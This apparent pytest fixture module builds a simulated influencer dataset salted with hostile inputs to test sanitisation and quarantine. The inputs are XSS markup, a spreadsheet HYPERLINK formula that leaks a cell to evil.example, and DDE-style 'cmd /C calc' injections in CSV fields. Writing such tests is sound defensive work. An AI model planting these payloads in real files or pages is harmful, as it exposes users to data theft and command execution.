"""The hostile SIMULATED world every question's notebook runs on end to end, and the names that
let the tests reading one shared run land on one pytest-xdist worker."""

from __future__ import annotations

from pathlib import Path

from inflresearch.data.synth import simulate_world
from inflresearch.questions import Question

EVIL = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def write_hostile_world(folder: Path) -> dict[str, Path]:
    """A small SIMULATED world whose text fields carry markup and spreadsheet formulas, written as
    CSV, with a few rows to quarantine (two influencers, one campaign)."""
    world = simulate_world(seed=21, n_influencers=400, n_campaigns=40)
    inf = world.influencers.copy()
    inf.loc[:9, "bio"] = EVIL + " workout gym protein"
    inf.loc[:4, "account_id"] = [f"{EVIL}{i}" for i in range(5)]
    inf.loc[:29, "niche"] = EVIL
    inf.loc[10:14, "account_id"] = [f"{FORMULA}{i}" for i in range(5)]
    inf.loc[30:39, "niche"] = "+cmd|' /C calc'!A0"
    inf.loc[40:41, ["account_id", "followers"]] = [["@SUM(1+1)", -5], ["-2+3", 0]]  # quarantined
    posts = world.posts.copy()
    posts.loc[posts.account_id == inf.account_id[5], "caption"] = EVIL
    posts.loc[posts.account_id == inf.account_id[6], "caption"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    camps = world.campaigns.copy()
    camps.loc[:3, "niche"] = EVIL
    camps.loc[4:7, "niche"] = FORMULA
    camps.loc[8, "channel"] = "=channel()"  # quarantined
    paths = {}
    for name, table in {"influencers": inf, "posts": posts, "campaigns": camps}.items():
        paths[name] = folder / f"{name}.csv"
        table.to_csv(paths[name], index=False)
    return paths


def small_parameters(question: Question, files: dict[str, Path]) -> dict:
    """A question's own fast parameters, its inputs taken from the hostile world's files."""
    inputs = {name: str(files[table]) for name, table in question.inputs.items()}
    return {**inputs, **question.small_parameters}


def run_group(name: str) -> str:
    """The xdist group of the tests that read question `name`'s shared run."""
    return f"notebook-run-{name}"


